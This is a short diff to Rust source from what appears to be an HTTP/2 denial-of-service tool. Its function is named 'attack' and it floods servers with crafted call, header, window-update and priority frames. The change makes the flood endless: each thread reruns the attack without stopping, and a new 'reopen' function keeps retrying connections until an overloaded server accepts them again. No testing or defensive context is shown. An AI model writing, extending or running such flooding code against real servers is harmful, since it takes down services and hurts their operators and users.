@@ -116,10 +116,9 @@ fn attack(
     for mut stream in streams? {
         let address = address.to_owned();
         thread::spawn(move || {
-            while kind.run(&mut stream).is_err()
-                && let Ok(next) = kind.open(&address)
-            {
-                stream = next;
+            loop {
+                let _closed = kind.run(&mut stream);
+                stream = kind.reopen(&address);
             }
         });
     }
@@ -156,6 +155,16 @@ impl Kind {
         match self {
             Self::Calls | Self::Headers => open(address, &frames::opening_with_window()),
             Self::WindowUpdate | Self::Priority => open(address, &frames::opening()),
+        }
+    }
+
+    /// Tries until the server takes it: a full one may refuse for a while.
+    fn reopen(self, address: &str) -> Stream {
+        loop {
+            match self.open(address) {
+                Ok(stream) => return stream,
+                Err(_) => thread::sleep(PAUSE),
+            }
         }
     }
 
